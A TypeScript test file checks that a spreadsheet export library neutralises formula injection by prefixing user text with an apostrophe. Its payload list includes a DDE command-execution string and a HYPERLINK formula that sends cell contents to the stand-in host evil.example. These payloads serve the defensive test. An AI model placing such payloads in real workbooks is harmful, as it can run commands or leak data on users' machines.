/**
 * Formula injection (issue 24): text a user typed never becomes a formula in an exported workbook —
 * checked on the real 汇总表 and form workbooks, opened again with exceljs.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { auditForms, getScheme, summarizeDepartment, type Evaluation } from '@jixiao/core';
import { describe, expect, it } from 'vitest';
import { buildWorkbook, cellToText, departmentDocument, formDocument, plainSpreadsheetText, renderXlsx, spreadsheetText } from '../src/index.ts';

const dir = join(import.meta.dirname, '../../../fixtures/golden');
const hebei = readdirSync(dir)
  .filter((f) => f.startsWith('hebei') && f.includes('.form-'))
  .sort()
  .map((f): Evaluation => JSON.parse(readFileSync(join(dir, f), 'utf8')));

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '=100%',
];

describe('spreadsheetText', () => {
  it('puts the text mark before every formula-like start, and leaves plain numbers and dashes alone', () => {
    for (const p of PAYLOADS) expect(spreadsheetText(p), JSON.stringify(p)).toBe(`'${p}`);
    for (const ok of ['-', '--', '-0.5', '+5%', '12.5', '社会治安综合治理工作经费', '≥95%', 'a=b', '＝3类', '']) expect(spreadsheetText(ok)).toBe(ok);
    // and back: what was marked reads as typed; a text that began with ' of its own stays
    for (const p of [...PAYLOADS, "'quoted", "'-0.5"]) expect(plainSpreadsheetText(spreadsheetText(p))).toBe(p);
  });

  it('a formula-like text that wraps keeps its mark before the word joiners of its numbers, and reads back as typed', async () => {
    const typed = `=cmd|x ${'完成率达到95%，得分10分，'.repeat(8)}`;
    const doc = {
      name: '长文本',
      sections: [{ blocks: [{ kind: 'table' as const, table: { widths: [40], rows: [{ cells: [{ text: typed }] }] } }] }],
    };
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await buildWorkbook([doc]).xlsx.writeBuffer()) as ArrayBuffer);
    const cell = wb.worksheets[0]!.getCell(1, 1);
    expect(cell.value).toMatch(/^'=cmd\|x 完成率达到95\u2060%/);
    expect(cellToText(cell)).toBe(typed);
  });

  it('a form and the 汇总表 with payloads as project name, indicator name and narrative: every cell stays text', async () => {
    const forms = hebei.map((f, i) => ({ ...f, project: { ...f.project, name: { raw: PAYLOADS[i % PAYLOADS.length]! } } }));
    const evil = forms[0]!;
    evil.indicators[0] = { ...evil.indicators[0]!, name: { raw: '=HYPERLINK("http://evil.example","x")' } };
    if (evil.narratives[0]) evil.narratives[0] = { ...evil.narratives[0], text: { raw: '@cmd|calc' } };
    const { scores, findings } = auditForms(forms);
    const summary = summarizeDepartment(forms, scores, getScheme(forms[0]!.schemeId));
    for (const doc of [formDocument(evil), departmentDocument('summary', { forms, scores, findings, summary, department: '=1+1 部门' })]) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(Buffer.from(await renderXlsx([doc])) as unknown as ArrayBuffer);
      const texts: string[] = [];
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            const v = cell.value as unknown;
            if (typeof v === 'object' && v !== null && 'formula' in v) expect(String((v as { formula: string }).formula)).toMatch(/^SUM\(/); // only the 合计's own sums
            if (typeof v === 'string') texts.push(v);
          }),
        ),
      );
      const dangerous = texts.filter((t) => /^(\s*[=+\-@]|[\t\r])/.test(t) && !/^[+-]?(\d+(\.\d+)?%?|-+)$/.test(t));
      expect(dangerous).toEqual([]);
      expect(texts.some((t) => t.startsWith("'=") || t.startsWith("'@") || t.startsWith("'+"))).toBe(true);
    }
  });
});
